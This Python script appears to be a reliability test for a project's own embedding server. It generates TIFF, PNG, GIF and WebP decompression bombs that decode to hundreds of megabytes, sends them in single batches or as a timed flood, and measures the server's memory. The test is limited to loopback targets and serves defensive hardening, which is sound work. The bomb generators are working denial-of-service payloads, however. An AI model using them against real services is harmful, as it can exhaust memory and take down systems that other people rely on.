#!/usr/bin/env python3
"""Decoded-memory attacks on a running `sightline serve` (issue 16 §2), for docs/reliability.md.

Small files that decode to hundreds of megabytes, all legal under the default --max-pixels (10 000 × 10 000):
  tiff16  16-bit RGBA TIFF, deflate strips (~0.8 MB; 800 MB decoded)
  png16   16-bit RGBA PNG (~0.8 MB; 800 MB decoded)
  gif     a 1 × 1 frame on a declared 10 000 × 10 000 screen (40 bytes; 400 MB RGBA canvas)
  webp    an animated WebP: a 1 × 1 frame on a 10 000 × 10 000 canvas (~100 bytes; 400 MB RGBA canvas)
The files are generated (standard library; PIL for the WebP frame), never read from anywhere.

Modes:
  bombs   for each kind in --kinds: one request holding --copies copies; prints its status, time, and the server's
          peak RSS sampled every 10 ms during the request (VmRSS), and VmHWM afterwards.
  flood   --clients clients each sending one-bomb requests (kinds in turn) for --duration seconds; prints statuses.
          Run it next to scripts/load.py for the mixed load.

Loopback only, bounded (every request has a timeout; flood stops after --duration).

Usage: scripts/mem_attack.py --url http://127.0.0.1:PORT --key KEY --server-pid PID --mode bombs [--copies 4]
"""
from __future__ import annotations

import argparse
import base64
import collections
import http.client
import json
import struct
import sys
import threading
import time
import urllib.parse
import zlib
from pathlib import Path

from conn_attack import loopback  # the same loopback-only rule for every attack script

SIDE = 10_000


def tiff16() -> bytes:
    """Little-endian TIFF, 4 × 16-bit samples (RGBA, unassociated alpha), deflate, 100 rows a strip."""
    rows = 100
    row = struct.pack("<4H", 50_000, 20_000, 3_000, 65_535) * SIDE
    strip = zlib.compress(row * rows, 9)
    strips = SIDE // rows
    entries = [  # (tag, type, count, value-or-offset); offsets are filled below
        (256, 4, 1, SIDE), (257, 4, 1, SIDE), (258, 3, 4, None), (259, 3, 1, 8), (262, 3, 1, 2),
        (273, 4, strips, None), (277, 3, 1, 4), (278, 4, 1, rows), (279, 4, strips, None), (284, 3, 1, 1),
        (338, 3, 1, 2),
    ]
    ifd_at = 8
    ifd_len = 2 + 12 * len(entries) + 4
    bits_at = ifd_at + ifd_len
    offsets_at = bits_at + 8
    counts_at = offsets_at + 4 * strips
    data_at = counts_at + 4 * strips
    out = bytearray(b"II*\0" + struct.pack("<I", ifd_at))
    out += struct.pack("<H", len(entries))
    extra = {258: bits_at, 273: offsets_at, 279: counts_at}
    for tag, kind, count, value in entries:
        value = extra.get(tag, value)
        packed = struct.pack("<H", value) + b"\0\0" if kind == 3 and count == 1 else struct.pack("<I", value)
        out += struct.pack("<HHI", tag, kind, count) + packed
    out += struct.pack("<I", 0)
    out += struct.pack("<4H", 16, 16, 16, 16)
    out += b"".join(struct.pack("<I", data_at + i * len(strip)) for i in range(strips))
    out += struct.pack("<I", len(strip)) * strips
    out += strip * strips
    return bytes(out)


def png16() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    row = b"\0" + struct.pack(">4H", 50_000, 20_000, 3_000, 65_535) * SIDE
    z = zlib.compressobj(9)
    idat = b"".join(z.compress(row) for _ in range(SIDE)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", SIDE, SIDE, 16, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def gif() -> bytes:
    screen = struct.pack("<HH", SIDE, SIDE) + b"\0\0\0"
    frame = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x80" + b"\xff\0\0\0\0\xff"
    return b"GIF89a" + screen + frame + b"\x02\x02\x44\x01\x00" + b"\x3b"


def webp() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return kind + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")
    u24 = lambda v: struct.pack("<I", v)[:3]  # noqa: E731
    # The 1 × 1 lossless frame is PIL's (the one dependency: the repository's .venv has it).
    import io
    from PIL import Image
    one = io.BytesIO()
    Image.new("RGBA", (1, 1), (200, 10, 10, 255)).save(one, "WEBP", lossless=True)
    riff = one.getvalue()
    at = riff.index(b"VP8L")
    vp8l = riff[at + 8:at + 8 + struct.unpack("<I", riff[at + 4:at + 8])[0]]
    anmf = u24(0) + u24(0) + u24(0) + u24(0) + u24(100) + b"\0" + chunk(b"VP8L", vp8l)
    vp8x = bytes([0x12, 0, 0, 0]) + u24(SIDE - 1) + u24(SIDE - 1)
    body = b"WEBP" + chunk(b"VP8X", vp8x) + chunk(b"ANIM", b"\xff\xff\xff\xff\0\0") + chunk(b"ANMF", anmf)
    return b"RIFF" + struct.pack("<I", len(body)) + body


KINDS = {"tiff16": (tiff16, "image/tiff"), "png16": (png16, "image/png"), "gif": (gif, "image/gif"),
         "webp": (webp, "image/webp")}


def status_kib(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    return 0


class Target:
    def __init__(self, url: str, key: str | None):
        u = urllib.parse.urlparse(url)
        if u.scheme != "http" or not loopback(u.hostname or ""):
            sys.exit(f"refusing anything but a loopback http:// URL: {url}")
        self.host, self.port, self.key = u.hostname, u.port or 80, key

    def embed(self, inputs: list[str], timeout: float = 120.0):
        conn = http.client.HTTPConnection(self.host, self.port, timeout=timeout)
        try:
            headers = {"Content-Type": "application/json"}
            if self.key:
                headers["Authorization"] = f"Bearer {self.key}"
            conn.request("POST", "/v1/embeddings", body=json.dumps({"input": inputs}), headers=headers)
            response = conn.getresponse()
            body = response.read()
            try:
                message = json.loads(body).get("error", {}).get("message", "")
            except ValueError:
                message = body[:200].decode(errors="replace")
            return response.status, message
        except (OSError, http.client.HTTPException) as e:
            return type(e).__name__, str(e)
        finally:
            conn.close()


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--url", required=True)
    ap.add_argument("--key")
    ap.add_argument("--server-pid", type=int, required=True)
    ap.add_argument("--mode", choices=["bombs", "flood"], required=True)
    ap.add_argument("--kinds", default="tiff16,png16,gif,webp")
    ap.add_argument("--copies", type=int, default=4)
    ap.add_argument("--clients", type=int, default=5)
    ap.add_argument("--duration", type=float, default=120.0)
    args = ap.parse_args()
    target = Target(args.url, args.key)
    pid = args.server_pid
    uris = {}
    for kind in args.kinds.split(","):
        make, mime = KINDS[kind]
        data = make()
        uris[kind] = f"data:{mime};base64,{base64.b64encode(data).decode()}"
        print(f"{kind}: {len(data)} bytes", file=sys.stderr)
    print(f"server RSS before: {status_kib(pid, 'VmRSS') >> 10} MiB", file=sys.stderr)
    if args.mode == "bombs":
        for kind, uri in uris.items():
            done = threading.Event()
            peak = [0]

            def sample() -> None:
                while not done.is_set():
                    peak[0] = max(peak[0], status_kib(pid, "VmRSS"))
                    done.wait(0.01)

            sampler = threading.Thread(target=sample)
            sampler.start()
            started = time.monotonic()
            status, message = target.embed([uri] * args.copies)
            elapsed = time.monotonic() - started
            done.set()
            sampler.join()
            print(f"{kind} x{args.copies}: {status} in {elapsed:.1f} s, peak RSS {peak[0] >> 10} MiB, "
                  f"VmHWM {status_kib(pid, 'VmHWM') >> 10} MiB {message[:160]}")
    else:
        until = time.monotonic() + args.duration
        statuses = collections.Counter()
        lock = threading.Lock()

        def client(i: int) -> None:
            kinds = list(uris)
            n = i
            while time.monotonic() < until:
                status, _ = target.embed([uris[kinds[n % len(kinds)]]])
                n += 1
                with lock:
                    statuses[status] += 1

        threads = [threading.Thread(target=client, args=(i,)) for i in range(args.clients)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        print(f"flood: {dict(statuses)}; VmHWM {status_kib(pid, 'VmHWM') >> 10} MiB")


if __name__ == "__main__":
    main()
